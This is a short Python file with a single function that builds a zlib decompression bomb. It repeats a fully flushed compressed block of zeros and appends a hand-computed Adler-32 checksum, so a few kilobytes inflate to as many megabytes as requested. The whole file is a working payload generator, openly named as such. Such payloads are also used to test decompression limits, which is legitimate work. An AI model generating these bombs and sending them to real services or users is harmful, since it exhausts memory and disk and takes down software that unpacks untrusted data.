"""What unpacks to far more than it is."""

import struct
import zlib


def bomb(megabytes):
    """So many megabytes of zeros by zlib, of which one is packed: after a full flush it is the same bytes again."""
    packer = zlib.compressobj(9)
    first, again = (packer.compress(bytes(10**6)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + again * (megabytes - 1) + b"\3\0" + struct.pack(">I", (megabytes * 10**6 % 65521) << 16 | 1)
